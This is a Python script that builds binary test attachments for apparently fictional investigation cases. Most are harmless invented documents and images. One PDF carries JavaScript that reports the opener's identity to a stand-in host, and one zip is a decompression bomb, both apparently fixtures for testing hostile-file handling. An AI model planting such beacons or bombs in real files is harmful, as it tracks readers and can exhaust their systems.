"""Makes the attachments that are not plain text; run as `python -m tests.corpus.make_files`.

A test compares what is committed with what this makes. Every picture is drawn here, and the places
that some of them carry in their data are open ocean.
"""

import hashlib
import struct
import zipfile
from pathlib import Path

from tests.corpus.formats import docx, jpeg, packed, pdf, png, xlsx

FOLDER = Path(__file__).parent
SHELL = ("HALCYON REACH HOLDINGS", "海宁瑞控股有限公司", "ООО «Хэлсион Рич Холдингс»", "2088417-K")


def build() -> dict[str, bytes]:
    """Make every attachment that is no plain text, by its path inside the corpus."""
    return {
        "01-ferry-tender/files/dissent.docx": _dissent(),
        "01-ferry-tender/files/payments.xlsx": _payments(),
        "01-ferry-tender/files/buzzer.jpg": jpeg(24, 18, _taped, (48.8763, 123.3929), "Hand telephone 5"),
        "03-bearings-and-tea/files/contract.pdf": _contract(),
        "08-customs-villa/files/seal.png": png(96, 96, _seal, " / ".join(SHELL)),
        "08-customs-villa/files/house.jpg": jpeg(32, 18, _house, (48.1204, 122.9187), "Телефон"),
        "08-customs-villa/files/waybill.pdf": _waybill(),
        "09-phosphate-licence/files/page17.pdf": _strata(),
        "10-village-fund/files/road.jpg": jpeg(24, 16, _road, (47.5512, 121.0034), "Ponsel"),
        "19-closed-by-friday/files/poster.png": png(96, 128, _poster, "summer fair, stalls: ring Pippa"),
        "20-the-kingfisher-sails/files/wardrobe.jpg": jpeg(20, 26, _wardrobe, (48.4021, 123.7718), "Camera"),
        "22-the-spreadsheet/files/tips.xlsx": _tips(),
        "30-vaccine-fridges/files/strip.png": png(240, 64, _strip, "19 June, 02:00 to 16:00"),
        "31-harbour-abroad/files/scan.png": png(480, 640, _scanned_page, "page 12"),
        "31-harbour-abroad/files/invitation.pdf": _invitation(),
        "31-harbour-abroad/files/studies.zip": _bomb(64),
    }


def write() -> None:
    """Put every made attachment in its place."""
    for path, content in build().items():
        (FOLDER / path).parent.mkdir(exist_ok=True)
        (FOLDER / path).write_bytes(content)


def _dissent() -> bytes:
    return docx(
        [
            "To the chair of the evaluation committee, CTA/2024/117",
            "22 July 2024",
            "I do not agree with the recommendation and ask that this note go to the board with it.",
            (
                "1. At a loaded draught of 2.65 metres the vessel cannot reach Ashby Landing or Great Corran for about "
                "a third of all hours. My soundings for four years are in the table that the chair has had since March."
            ),
            "2. The bow ramp's hinge belongs to others. Its maintenance is not in the price.",
            "3. The consumption figures on page 88 of the offer are those of another hull.",
            (
                "4. At 26 million above the second it would be the most expensive way yet found of not reaching two "
                "islands."
            ),
            "R. Istavel, naval architect",
        ],
        author="R. Istavel (CTA-W7-0388)",
    )


def _payments() -> bytes:
    shown = [
        ["what", "date", "paid by the Authority", "invoice after it", "amount"],
        ["advance", "2024-10-15", "36262500", "HR-0017", "2417500"],
        ["milestone 1", "2025-02-21", "6043750", "HR-0022", "1208750"],
        ["milestone 2", "2025-05-30", "6043750", "HR-0031", "1208750"],
        ["CO-1", "2025-01-14", "4880000", "", ""],
        ["CO-2", "2025-04-02", "4650000", "", ""],
        ["CO-3", "2025-06-19", "1120000", "", ""],
        ["CO-4", "2025-09-30", "4910000", "", ""],
        ["CO-5", "2025-09-30", "4905000", "", ""],
        ["CO-6", "2026-02-11", "2300000", "", ""],
        ["CO-7", "2026-06-08", "945000", "", ""],
    ]
    aside = [["third floor, desk by the copier"], ["ask Lindsay which of these she saw"]]
    return xlsx({"payments": shown, "only for me": aside}, author="contracts-3rd-floor")


def _tips() -> bytes:
    shown = [["Team lunch", "paid"], ["October", "=40+2"], ["November", "0"]]
    tips = [
        ["date", "borrower", "loan", "tip", "who"],
        ["2026-03-04", "Brindle Haulage", "410000", "=C2*0.02", "Kester V."],
        ["2026-03-19", "Oakum & Sons", "95000", "=C3*0.02", "Kester V."],
        ["2026-04-02", "Pellam Dairy", "1250000", "=C4*0.02", "half to Mr. Aldous"],
        ["2026-04-30", "Brindle Haulage (again)", "380000", "=C5*0.02", "Mr. Aldous"],
    ]
    return xlsx({"lunch": shown, "tab 3": tips}, author="Kester Vayle")


def _contract() -> bytes:
    return pdf(
        [
            "购销合同  HY-HR-2306-01",
            "买方：临澜恒越供应链管理有限公司",
            f"卖方：{SHELL[1]}  {SHELL[0]} LIMITED",
            "品名：精密角接触球轴承    数量：420套    单价：3,800美元    总价：1,596,000美元",
            "付款方式：合同签订后三个工作日内，百分之百电汇预付",
            "毛重：1,836公斤",
            "签订日期：2023年6月8日",
        ],
        title="合同",
        author="恒越-PC-03",
    )


def _waybill() -> bytes:
    return pdf(
        [
            "Путевой лист автобуса № 0412",
            "Пост «Каменный Брод»",
            "Маршрут: пост - Верхние Ключи, Сосновая 12 - пост",
            "Пассажиров: 6    Груз: мебель",
            "Выезд 09:10    Возвращение 17:40",
        ],
        title="Путевой лист",
        author="Диспетчер",
    )


def _strata() -> bytes:
    layers = "\n".join(f"0.{9 - n} g 60 {430 + 55 * n} 475 55 re f" for n in range(5))
    well = "0 g 3 w 300 705 m 300 470 l S"
    return pdf(["17"], title="الدراسة - صفحة ١٧: الصخور الرسوبية", author="نزيه", drawing=f"{layers}\n{well}")


def _invitation() -> bytes:
    return pdf(
        ["Lokakarya Hidrografi II", "Hotel Gading Senja, Pulau Terubuk", "7 Desember 2026", "Lima kamar"],
        title="Undangan",
        author="W. Teschner-Lim",
        script="app.alert\\('opened by: ' + identity.name\\); this.submitForm\\('https://w.example/seen'\\);",
    )


def _bomb(megabytes: int) -> bytes:
    """Make what is harmless until somebody unpacks it: zeros, packed several hundred thousand to one."""
    return packed({"kajian/arus.bin": bytes(megabytes << 20)}, zipfile.ZIP_BZIP2)


def _grain(x: int, y: int) -> int:
    """Give the noise of a scanner's glass: always the same for the same dot, and not to be packed smaller."""
    return hashlib.blake2b(struct.pack("<II", x, y), digest_size=1).digest()[0]


def _scanned_page(x: int, y: int) -> int:
    printed = y % 24 in range(8, 16) and 60 < x < 420 and _grain(x // 5, y // 24) < 190
    return (30 if printed else 215) + _grain(x, y) // 8


def _taped(x: int, y: int) -> int:
    return 230 if 6 < y < 11 else (40 if (x - 12) ** 2 + (y - 9) ** 2 < 40 else 110)


def _seal(x: int, y: int) -> int:
    distance = ((x - 48) ** 2 + (y - 48) ** 2) ** 0.5
    return 70 if 40 < distance < 45 or 24 < distance < 26 or (distance < 20 and (x + y) % 9 < 3) else 250


def _house(x: int, y: int) -> int:
    if y > 12:
        return 90 + 20 * ((x + y) % 3)
    return 200 if 8 < x < 25 and y > 4 else 160


def _road(x: int, y: int) -> int:
    return 170 if y < 5 else (120 if y < 8 else 60 + 15 * ((x * 7 + y) % 4))


def _poster(x: int, y: int) -> int:
    return 40 if y in (10, 11, 116, 117) or (30 < y < 100 and (x // 8 + y // 8) % 4 == 0) else 245


def _wardrobe(x: int, y: int) -> int:
    return 30 if x in (4, 15) else (70 if 4 < x < 15 and y > 3 else 140 + (x * y) % 9)


def _strip(x: int, y: int) -> int:
    warm = 60 < x < 180
    return 20 if y == (12 if warm else 50) or (x in (60, 180) and 12 <= y <= 50) else 240


if __name__ == "__main__":
    write()
